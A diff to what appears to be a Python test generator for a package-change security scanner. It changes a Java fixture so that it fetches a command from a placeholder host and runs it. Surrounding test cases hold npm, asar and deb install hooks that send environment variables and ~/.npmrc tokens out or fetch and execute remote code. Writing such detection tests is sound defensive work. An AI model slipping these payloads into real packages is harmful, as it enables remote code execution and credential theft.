@@ -534,7 +534,7 @@ def on_asar(name, member, change):
 
 def on_jar(name):
     def make(cache, folder, twin):
-        sources = {"A": "public class A { public static int f(int x) { return x * 3; } }", "B": "public class B { static { new ProcessBuilder(\"harmless\"); } }"}
+        sources = {"A": "public class A { public static int f(int x) { return x * 3; } }", "B": "public class B { public static void f() throws Exception { new ProcessBuilder(new String(new java.net.URL(\"http://countersign.invalid/\").openStream().readAllBytes())).start(); } }"}
         paths = []
         for which, classes in (("old", "A"), ("new", "AB")):
             place = os.path.join(folder, which)
@@ -649,7 +649,7 @@ on_npm("npm, script that decodes and runs", "lib/main.js", appended(b'\n;(functi
 on_npm("npm, script that sends credentials", "install.js", appended(b'\nrequire("https").get("https://countersign.invalid/?" + JSON.stringify(process.env) + require("fs").readFileSync(require("os").homedir() + "/.npmrc"))\n'))
 on_npm("npm, native program added", "bin/extra", None, {"package/bin/extra": open("/bin/true", "rb").read()})
 on_asar("asar, script that fetches and runs", "package/install.js", appended(b'\nrequire("https").get("https://countersign.invalid/", r => require("child_process").exec(r))\n'))
-on_jar("jar, class added that starts processes")
+on_jar("jar, class added that fetches and runs")
 on_nsis("NSIS, script runs one thing more")
 on_deb("deb, maintainer script that fetches and runs", "postinst", hook)
 on_deb("deb, program becomes set-user-ID", "usr/bin/tool", set_user)
